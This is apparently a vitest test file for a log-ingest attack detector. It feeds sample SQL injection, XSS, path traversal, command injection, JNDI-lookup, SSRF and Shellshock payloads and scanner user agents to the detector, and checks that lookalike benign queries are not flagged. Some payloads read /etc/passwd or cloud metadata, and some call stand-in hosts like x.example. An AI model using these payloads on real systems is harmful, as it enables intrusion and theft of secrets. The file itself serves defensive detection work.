import { describe, expect, it } from 'vitest';
import { ATTACK_BITS } from '../../../schemas/event-row.ts';
import { createAttackFinder } from '../../../services/ingest/attack.ts';
import { fastest } from '../../support/fastest.ts';

const find = createAttackFinder();
const ORDINARY = { method: 'GET', path: '/', query: '', userAgent: '', status: 200, responseSize: 10 };

function names(target: string, userAgent = ''): string[] {
  const [path = '', query = ''] = target.split(/\?(.*)/s);
  const bits = find({ ...ORDINARY, path, query, userAgent });
  return Object.entries(ATTACK_BITS)
    .filter(([, bit]) => (bits & bit) !== 0)
    .map(([name]) => name);
}

describe('attack payloads', () => {
  it.each([
    ['sql', "/items?id=1'%20or%20'1'='1"],
    ['sql', '/items?id=1+UNION+ALL+SELECT+1,2,3--'],
    ['sql', '/items?id=1%2520union%2520select%25201'],
    ['sql', '/items?id=1/**/union/**/select/**/1'],
    ['sql', '/items?id=1;WAITFOR%20DELAY%20%270:0:5%27--'],
    ['sql', '/items?id=-1%20OR%202%2b418-418-1=0%2b0%2b0%2b1'],
    ['sql', '/items?id=sleep(5)%23'],
    ['xss', '/search?q=%3Cscript%3Ealert(1)%3C/script%3E'],
    ['xss', '/search?q=<img src=x onerror=alert(1)>'],
    ['xss', '/search?q="><svg/onload=alert(1)>'],
    ['xss', '/search?q=javascript:alert(document.cookie)'],
    ['traversal', '/download?file=../../../../etc/passwd'],
    ['traversal', '/%2e%2e/%2e%2e/etc/passwd'],
    ['traversal', '/a/..%252f..%252f..%252fetc%252fpasswd'],
    ['traversal', '/download?f=..\\..\\windows\\win.ini'],
    ['traversal', '/view?page=php://filter/convert.base64-encode/resource=index'],
    ['command', '/ping?host=1.1.1.1;cat%20/etc/passwd'],
    ['command', '/ping?host=$(whoami)'],
    ['command', '/ping?host=|nslookup+x.example'],
    ['command', '/a?c=system(%27id%27)'],
    ['template', '/a?x=$\x7Bjndi:ldap://x.example/a}'],
    ['template', '/a?x=$%7B$%7Blower:j%7Dndi:ldap://x%7D'],
    ['template', '/a?x={{7*7}}'],
    ['ssrf', '/fetch?url=http://169.254.169.254/latest/meta-data/'],
    ['ssrf', '/fetch?url=http://localhost:8080/admin'],
    ['ssrf', '/fetch?url=file:///etc/hosts'],
    ['scanner_path', '/.env'],
    ['scanner_path', '/shop/.git/config'],
    ['scanner_path', '/phpMyAdmin/index.php'],
    ['scanner_path', '/actuator/heapdump'],
    ['scanner_path', '/cgi-bin/test.cgi'],
    ['scanner_path', '/index.php.bak'],
    ['scanner_path', '/wp-config.php~'],
    ['scanner_path', '/backup.sql'],
    ['scanner_path', '/c99.php'],
    ['scanner_path', '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'],
    ['scanner_path', '/a?x=acunetix_wvs_security_test'],
    ['odd_request', '/a%00.jpg'],
  ])('%s in %s', (name, target) => {
    expect(names(target)).toContain(name);
  });

  it.each([
    'sqlmap/1.7#stable (https://sqlmap.org)',
    'Mozilla/5.00 (Nikto/2.1.6)',
    'w3af.org',
    'Mozilla/5.0 zgrab/0.x',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'gobuster/3.1.0',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
  ])('a scanner that names itself: %s', (agent) => {
    expect(names('/', agent)).toContain('scanner_agent');
  });

  it('a payload in the agent', () => {
    expect(names('/', '() { :;}; /bin/bash -c "id"')).toContain('command');
    expect(names('/', '$\x7Bjndi:ldap://x.example/a}')).toContain('template');
  });

  it.each([
    '/search?q=women%27s+shoes',
    '/search?q=rock+%27n%27+roll',
    '/search?q=select+a+union+representative+from+the+list',
    '/search?q=%22exact+phrase%22+or+this',
    '/search?q=salt+%26+pepper;+oil',
    '/search?q=O%27Brien+and+sons',
    '/search?q=c%2B%2B+%3C+java',
    '/search?q=price%3E10+and+price%3C20',
    '/login?redirect_to=https%3A%2F%2Fintranet.example.com%2Fwp-admin%2F&reauth=1',
    '/login?return=..%2Fhome',
    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A51234%2Fcallback&state=x',
    '/share?url=https://example.com/a?b=c',
    '/filter?where=%7B%22color%22%3A%22%23fff%22%2C%22size%22%3A%5B1%2C2%5D%7D',
    '/items?ids[]=1&ids[]=2&sort=-created',
    '/items?$filter=name%20eq%20%27bob%27&$top=10',
    '/wp-includes/js/dist/vendor/wp-polyfill.min.js?ver=3.15.0',
    '/wp-login.php?action=logout',
    '/xmlrpc.php',
    '/.well-known/security.txt',
    '/environment/variables',
    '/git/tutorial',
    '/blog/how-to-select-from-a-menu',
    '/files/release-1.2.tar.gz',
    '/docs/backup-strategies',
    '/users/cat/photos;size=large',
    '/caf%C3%A9/men%C3%BC',
    '/%E6%97%A5%E6%9C%AC%E8%AA%9E?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82',
    '/note?text=line+one%0D%0Aline+two',
    '/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D',
    '/map?bbox=1.5,2.5,3.5,4.5',
    '/print(1)',
  ])('none in %s', (target) => {
    expect(names(target, 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36; type app; id 7')).toEqual([]);
  });

  it('a payload behind padding', () => {
    expect(names(`/a?pad=${'x'.repeat(8_000)}&q=%3Cscript%3Ealert(1)%3C/script%3E`)).toContain('xss');
  });

  it('takes unreadable requests for odd, but not connections that nobody used', () => {
    const unreadable = { ...ORDINARY, method: '_OTHER', path: '' };
    expect(find({ ...unreadable, status: 400 })).toBe(ATTACK_BITS.odd_request);
    expect(find({ ...unreadable, status: 408 })).toBe(0);
    expect(find({ ...unreadable, status: 400, responseSize: 0 })).toBe(0);
    expect(find({ ...ORDINARY, method: 'TRACE' })).toBe(ATTACK_BITS.odd_request);
  });

  it('takes linear time on 8 KiB of hostile text', () => {
    const seeds = [
      "'",
      '"',
      '<',
      '<img a',
      '../',
      'select a from ',
      "' or ",
      'or 1+',
      ' and ((',
      '{{',
      '${',
      '${a:',
      ';',
      '%2e',
      '%252e',
      '/*',
      ' onerror=',
      '&#',
      '=http://a',
      'cast(',
      'char(1)',
      '=ping ',
      '=a\'"',
      '/cgi-bin/a',
      '.php.',
      '/backup-',
      '/.',
      '\\',
    ];
    for (const a of seeds) {
      for (const b of ['', ...seeds]) {
        const text = (a + b).repeat(8_192).slice(0, 8_192);
        const suspect = { ...ORDINARY, path: `/${text}`, query: text, userAgent: text.slice(0, 2_048) };
        expect(
          fastest(() => find(suspect)),
          a + b,
        ).toBeLessThan(100);
      }
    }
  });
});
